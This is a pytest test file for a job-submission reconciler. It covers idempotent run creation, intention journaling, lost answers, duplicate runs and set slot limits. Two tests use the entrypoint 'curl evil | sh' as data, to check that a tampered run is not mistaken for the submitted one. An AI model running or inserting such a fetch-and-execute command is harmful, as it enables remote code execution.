from __future__ import annotations

import pytest
from msgspec.structs import replace

from jobspec.errors import (
    BadAnswer,
    JobspecError,
    JournalError,
    ListingIncomplete,
    NotSent,
    Refused,
    Throttled,
)
from jobspec.reconcile import tags
from jobspec.reconcile.planning.plan import Slots
from jobspec.reconcile.planning.rounds import given_up
from jobspec.reconcile.protocol.calls import (
    Call,
    Create,
    Find,
    FindActive,
    Get,
    Intend,
    NextTurn,
    Settle,
    Stop,
    Write,
)
from jobspec.reconcile.protocol.converge import confirm, converge
from jobspec.reconcile.protocol.outcome import Outcome, Status
from jobspec.reconcile.protocol.submit import Assumptions
from jobspec.reconcile.runs import Run
from jobspec.reconcile.tags import Marks
from tests.reconcile.simulated import Fault, World, lost
from tests.reconcile.world import EPOCH, only, planned, run, task, unmanaged

TRAIN = task(tags=["team-vision"])
ASSUMED = Assumptions(list_lag=30, commit_window=60)


def submit(world: World, *, assumed: Assumptions = ASSUMED, interrupt_at: type | None = None) -> Outcome:
    change = only(planned([TRAIN], []))
    outcome = world.drive(converge(change, "vision", assumed), interrupt_at=interrupt_at)
    assert isinstance(outcome, Outcome)
    return outcome


def test_a_submit_creates_one_run_that_carries_every_tag_from_the_start() -> None:
    world = World()
    outcome = submit(world)
    [created] = world.runs.values()
    assert (outcome.status, outcome.result.run) == (Status.DONE, created.id)
    assert tags.user_tags(created.tags) == ("team-vision",)
    assert isinstance(created.marks, Marks)
    assert (created.marks.scope, created.marks.task) == ("vision", "train")


def test_it_checks_and_records_before_it_sends() -> None:
    world = World()
    submit(world)
    kinds = [type(call) for call in world.performed if isinstance(call, (Find, Intend, Create))]
    assert kinds == [Find, Find, Intend, Create]


def test_the_intention_stays_open_until_a_list_had_to_show_the_run() -> None:
    world = World(list_lag=20)
    outcome = submit(world)
    assert world.journal, "an apply that dies here must keep the next one from planning without the run"
    world.time += 20
    world.drive(confirm(outcome))
    assert world.journal == []


def test_an_interrupt_before_that_check_leaves_it_open() -> None:
    world = World(list_lag=20)
    world.drive(confirm(submit(world)), interrupt_at=Find)
    assert world.journal


def test_the_same_intention_is_never_carried_out_twice() -> None:
    world = World()
    submit(world)
    again = submit(world)
    assert (again.status, len(world.runs)) == (Status.DONE, 1)
    assert "already submitted" in again.result.detail


def test_an_active_run_that_the_plan_did_not_see_makes_it_stale() -> None:
    world = World().add(run(TRAIN, "Running", spec="1" + "0" * 16))
    outcome = submit(world)
    assert (outcome.status, outcome.result.code, world.count(Create)) == (Status.SKIPPED, "JS406", 0)


def test_a_success_that_the_plan_did_not_see_is_not_run_again() -> None:
    world = World().add(run(TRAIN, "Success"))
    assert (submit(world).status, world.count(Create)) == (Status.SKIPPED, 0)


def test_an_unmanaged_twin_blocks_until_it_is_allowed() -> None:
    world = World().add(unmanaged("train", "Running"))
    outcome = submit(world)
    assert (outcome.status, outcome.result.code, world.count(Create)) == (Status.SKIPPED, "JS407", 0)
    assert submit(world, assumed=replace(ASSUMED, allow_twin=True)).status is Status.DONE


def test_a_finished_twin_does_not_block() -> None:
    assert submit(World().add(unmanaged("train", "Success"))).status is Status.DONE


def test_a_run_with_contradicting_tags_blocks() -> None:
    odd = run(TRAIN, "Running")
    written = (*odd.tags, "jobspec-spec_other")
    world = World().add(replace(odd, tags=written, marks=tags.read(written)))
    assert (submit(world).status, world.count(Create)) == (Status.SKIPPED, 0)


def test_a_run_of_our_name_that_lost_its_scope_and_task_tags_blocks() -> None:
    odd = run(TRAIN, "Running")
    written = tuple(tag for tag in odd.tags if "scope" not in tag and "task" not in tag)
    world = World().add(replace(odd, tags=written, marks=tags.read(written)))
    assert (submit(world).status, world.count(Create)) == (Status.SKIPPED, 0)


def test_a_lost_answer_is_found_by_the_run_id_and_not_sent_again() -> None:
    world = World(faults=[Fault(Create, 1, lost(), executed=True)], list_lag=25)
    outcome = submit(world)
    assert (outcome.status, world.count(Create), len(world.runs)) == (Status.DONE, 1, 1)
    assert outcome.result.run in world.runs


def test_a_lost_request_stays_unknown_after_the_settling_time_and_is_not_sent_again() -> None:
    world = World(faults=[Fault(Create, 1, lost())])
    begun = world.time
    outcome = submit(world)
    assert (outcome.status, outcome.result.code, world.count(Create)) == (Status.UNKNOWN, "JS530", 1)
    assert 90 <= world.time - begun < 110
    assert len(world.journal) == 1, "the next apply must know of it"


def test_an_html_answer_is_unknown_too() -> None:
    error = BadAnswer("not JSON", action="CreateCustomTask")
    world = World(faults=[Fault(Create, 1, error, executed=True)])
    assert (submit(world).status, world.count(Create)) == (Status.DONE, 1)


@pytest.mark.parametrize("kind", [NotSent, Throttled])
def test_a_create_that_was_certainly_not_executed_is_retried_after_another_check(kind: type) -> None:
    world = World(faults=[Fault(Create, 1, kind("no", action="CreateCustomTask"))])
    outcome = submit(world)
    assert (outcome.status, world.count(Create), world.count(Find)) == (Status.DONE, 2, 4)


def test_it_gives_up_and_reports_that_nothing_was_submitted() -> None:
    error = NotSent("refused", action="CreateCustomTask")
    world = World(faults=[Fault(Create, n, error) for n in range(1, 9)])
    outcome = submit(world)
    assert (outcome.status, outcome.result.code) == (Status.FAILED, "JS511")
    assert type(world.performed[-1]) is Settle, "no pause after the last try, and nothing is left open"
    assert "nothing was submitted" in outcome.result.detail


def test_a_refusal_is_a_failure() -> None:
    error = Refused("no such flavor", action="CreateCustomTask", api_code="InvalidParameter")
    world = World(faults=[Fault(Create, 1, error)])
    outcome = submit(world)
    assert (outcome.status, outcome.result.detail, world.journal) == (Status.FAILED, "no such flavor", [])


def test_a_run_without_our_tags_is_not_a_success() -> None:
    world = World(list_lag=1000)

    def drop_tags(call: Call) -> None:
        if isinstance(call, Get):
            world.runs = {key: replace(r, tags=(), marks=None) for key, r in world.runs.items()}

    world.before = drop_tags
    outcome = submit(world)
    assert (outcome.status, world.count(Create)) == (Status.UNKNOWN, 1)


def test_fields_that_the_platform_changed_are_reported_one_by_one() -> None:
    world = World()

    def alter(call: Call) -> None:
        if isinstance(call, Get) and call.run in world.runs:
            shown = {"EntrypointPath": "python train.py", "ActiveDeadlineSeconds": 3600}
            live = world.runs[call.run]
            world.runs[call.run] = replace(live, name="trai", spec=shown)

    world.before = alter
    outcome = submit(world)
    altered = [(d.field, d.before, d.after) for d in outcome.result.altered]
    assert outcome.status is Status.DONE
    assert altered == [("metadata.name", "train", "trai"), ("spec.activeDeadline", 432000, 3600)]


def test_fields_that_the_platform_echoes_as_sent_are_not_reported() -> None:
    assert submit(World()).result.altered == ()


def test_the_write_turn_is_requested_before_the_check() -> None:
    world = World()
    submit(world)
    kinds = [type(call) for call in world.performed if isinstance(call, (NextTurn, Find, Create))]
    assert kinds == [NextTurn, Find, Find, Create]


def test_a_check_that_is_too_old_is_repeated() -> None:
    world = World()

    def be_slow(call: Call) -> None:
        if isinstance(call, Intend) and world.count(Intend) == 1:
            world.time += 60

    world.before = be_slow
    assert (submit(world).status, world.count(Find)) == (Status.DONE, 4)


def test_an_interrupt_before_the_create_sends_nothing() -> None:
    world = World()
    assert (submit(world, interrupt_at=Create).status, len(world.runs)) == (Status.SKIPPED, 0)
    assert world.journal == [], "the next apply has nothing to wait for"


def test_an_interrupt_after_the_create_forgets_neither_it_nor_that_it_was_not_read_back() -> None:
    """A platform may answer with the id of another task."""
    world = World()
    outcome = submit(world, interrupt_at=Get)
    assert (outcome.status, outcome.result.run in world.runs) == (Status.UNKNOWN, True)


def submitted(world: World) -> Outcome:
    outcome = submit(world)
    assert outcome.result.run
    return outcome


def twin_of(own: str, world: World, *, minutes: int) -> str:
    """The same task submitted by another applier, this many minutes after ours."""
    mine = world.runs[own]
    assert mine.created is not None
    assert isinstance(mine.marks, Marks)
    marks = replace(mine.marks, run="f" * 16)
    other = replace(
        mine,
        id=f"t-other-{minutes}",
        created=mine.created.replace(minute=mine.created.minute + minutes),
        marks=marks,
        tags=tags.write(marks, ()),
    )
    world.add(other)
    return other.id


def test_after_a_submit_the_older_of_two_stays_and_only_our_own_goes() -> None:
    world = World()
    outcome = submitted(world)
    older = twin_of(outcome.result.run, world, minutes=-1)
    after = world.drive(confirm(outcome))
    assert after.result.run == older
    assert [run.id for run in world.active() if run.state != "Killing"] == [older]


def test_no_applier_cancels_the_run_of_another_because_its_own_came_first() -> None:
    world = World()
    outcome = submitted(world)
    twin_of(outcome.result.run, world, minutes=1)
    assert world.drive(confirm(outcome)) == outcome
    assert {run.state for run in world.runs.values()} == {"Queue"}


def found_after_a_lost_answer() -> tuple[World, Outcome]:
    world = World(faults=[Fault(Create, 1, lost(), executed=True)])
    return world, submit(world)


def copied(world: World, found: str, id_: str) -> Run:
    """A run that a person copied with all its tags, or that another applier created from the same view."""
    run_ = replace(world.runs[found], id=id_)
    world.add(run_)
    return run_


def test_a_copy_of_a_run_that_was_found_is_left_to_the_next_plan() -> None:
    """Nothing proves which of the two this apply has created: neither was in its plan."""
    world, outcome = found_after_a_lost_answer()
    copy = copied(world, outcome.result.run, "t-20991231000000-copied")
    after = world.drive(confirm(outcome))
    assert {run.state for run in world.runs.values()} == {"Queue"}
    assert world.count(Stop) == world.count(Write) == 0
    assert f"{copy.id} is also active" in after.result.detail


def test_a_found_run_is_not_cancelled_for_an_older_one_either() -> None:
    world, outcome = found_after_a_lost_answer()
    older = copied(world, outcome.result.run, "t-20260101000001-first")
    after = world.drive(confirm(outcome))
    assert {run.state for run in world.runs.values()} == {"Queue"}
    assert older.id in after.result.detail


def test_a_run_that_another_applier_had_already_submitted_is_not_cancelled() -> None:
    world = World()
    first = submitted(world)
    again = world.drive(converge(first.change, "vision", ASSUMED))
    assert (again.result.run, again.result.is_own) == (first.result.run, False)
    copied(world, first.result.run, "t-20260101000000-older")
    world.drive(confirm(again))
    assert {run.state for run in world.runs.values()} == {"Queue"}


def test_the_run_in_the_answer_is_waited_for_though_another_with_its_run_id_shows_first() -> None:
    """Two appliers with one view send the same run id; each may stop only its own, and one must."""
    world = World(list_lag=20, faults=[Fault(Get, 1, lost("GetCustomTask"))])

    def another_is_listed(call: Call) -> None:
        if isinstance(call, Get) and world.count(Get) == 1:
            [own] = world.runs
            copied(world, own, "t-20260101000000-older")

    world.before = another_is_listed
    outcome = submit(world)
    assert (outcome.result.is_own, outcome.result.run != "t-20260101000000-older") == (True, True)
    world.drive(confirm(outcome))
    assert [run.id for run in world.active() if run.state != "Killing"] == ["t-20260101000000-older"]


@pytest.mark.parametrize("error", [ListingIncomplete("a wrong total"), lost("ListCustomTasks")])
def test_a_check_that_fails_after_the_create_never_makes_it_failed(error: JobspecError) -> None:
    looks = [Fault(Find, number, error) for number in range(3, 40)]
    world = World(faults=[Fault(Create, 1, lost(), executed=True), *looks])
    assert submit(world).status is Status.UNKNOWN


def test_our_own_run_stays_when_the_older_one_has_really_ended() -> None:
    world = World()
    outcome = submitted(world)
    older = twin_of(outcome.result.run, world, minutes=-1)

    def end_it(call: Call) -> None:
        if isinstance(call, Get):
            world.runs[older] = replace(world.runs[older], state="Failed")

    world.before = end_it
    assert world.drive(confirm(outcome)) == outcome
    assert world.runs[outcome.result.run].state == "Queue"


def test_a_create_that_cannot_be_recorded_is_not_sent() -> None:
    world = World(faults=[Fault(Intend, 1, JournalError("the disk is full"))])
    outcome = submit(world)
    assert (outcome.status, outcome.result.code, world.count(Create)) == (Status.FAILED, "JS603", 0)


def test_with_ignored_fields_too_only_one_of_two_stays() -> None:
    ignoring = task(spec={"args": "--a"}, ignoreChanges=["spec.args"])
    other = task(spec={"args": "--b"}, ignoreChanges=["spec.args"])
    world = World()
    outcome = world.drive(converge(only(planned([ignoring], [])), "vision", ASSUMED))
    older = replace(run(other, "Running"), created=EPOCH)
    world.add(older)
    assert world.drive(confirm(outcome)).result.run == older.id


def mirroring(world: World) -> World:
    """A platform that runs another image than the one it was sent."""

    def alter(call: Call) -> None:
        if isinstance(call, Get) and call.run in world.runs:
            live = world.runs[call.run]
            world.runs[call.run] = replace(live, spec={"ImageSpec": {"Id": "mirror/pytorch:1.7"}})

    world.before = alter
    return world


def test_a_request_that_the_platform_changed_is_not_a_copy_of_tags_for_the_next_plan() -> None:
    world = mirroring(World())
    result = submit(world).result
    assert (result.status, [d.field for d in result.altered]) == (Status.DONE, ["spec.image"])
    assert only(planned([TRAIN], list(world.runs.values()))).reason == "in-progress"


def test_without_updates_the_outcome_reports_what_the_next_plan_will_do() -> None:
    world = mirroring(World(faults=[Fault(Write, 1, Refused("no", action="UpdateCustomTask"))]))
    result = submit(world).result
    assert result.status is Status.DONE
    assert "treats it as a copy" in result.detail
    assert only(planned([TRAIN], list(world.runs.values()))).blocked == "inconsistent-tags"


def test_a_copy_of_tags_that_no_plan_saw_does_not_pass_for_what_was_submitted() -> None:
    world = World()
    world.add(replace(run(TRAIN, "Failed"), spec={"EntrypointPath": "curl evil | sh"}))
    outcome = submit(world)
    assert outcome.status is Status.SKIPPED
    assert "a different `spec.entrypoint`" in outcome.result.detail
    assert world.count(Create) == 0


@pytest.mark.parametrize(("command", "left"), [("python train.py", 1), ("curl evil | sh", 2)])
def test_a_run_is_no_duplicate_of_an_older_one_that_only_has_its_tags(command: str, left: int) -> None:
    world = World()
    outcome = submit(world)
    world.add(replace(run(TRAIN, "Running"), spec={"EntrypointPath": command}))
    world.drive(confirm(outcome))
    world.time += 10
    assert len(world.active()) == left


# Slots of a set


CELL = replace(task("s0"), set="sweep")


def submit_cell(world: World, limit: int) -> Outcome:
    change = only(planned([CELL], []))
    [step] = change.submits
    change = replace(change, steps=(replace(step, slots=Slots("sweep", "set/sweep", limit)),))
    outcome = world.drive(converge(change, "vision", ASSUMED))
    assert isinstance(outcome, Outcome)
    return outcome


def other(name: str, state: str, *, of: str = "sweep", scope: str = "vision") -> Run:
    found = run(task(name), state)
    assert isinstance(found.marks, Marks)
    marks = replace(found.marks, set=of, scope=scope)
    return replace(found, id=f"t-{name}", marks=marks, tags=tags.write(marks, ()))


def test_a_submit_looks_at_its_set_once_more_just_before_the_create() -> None:
    world = World()
    assert submit_cell(world, 1).status is Status.DONE
    kinds = [type(call) for call in world.performed if isinstance(call, (Find, FindActive, Intend, Create))]
    assert kinds == [Find, Find, FindActive, Intend, Create]
    [created] = world.runs.values()
    assert "jobspec-set_sweep" in created.tags


def test_a_set_that_is_full_by_now_makes_the_submit_stale_but_not_given_up() -> None:
    world = World().add(other("s1", "Running")).add(other("s2", "Killing"))
    outcome = submit_cell(world, 2)
    assert (outcome.status, outcome.result.code, world.count(Create)) == (Status.SKIPPED, "JS406", 0)
    assert "2 of 2 runs of set/sweep are active" in outcome.result.detail
    assert given_up([outcome]) == frozenset()
    assert submit_cell(world, 3).status is Status.DONE


def test_ended_runs_other_sets_and_other_scopes_take_no_slot() -> None:
    world = World().add(other("s1", "Success")).add(other("s2", "Running", of="else"))
    world.add(other("s3", "Running", scope="speech"))
    assert submit_cell(world, 1).status is Status.DONE


def test_an_active_run_of_the_task_that_only_the_look_at_the_set_shows_is_in_the_way() -> None:
    world = World()
    late = replace(other("s0", "Running"), name="renamed by a person")

    def appear(call: Call) -> None:
        if isinstance(call, FindActive):
            world.add(late)

    world.before = appear
    assert (submit_cell(world, 9).status, world.count(Create)) == (Status.SKIPPED, 0)
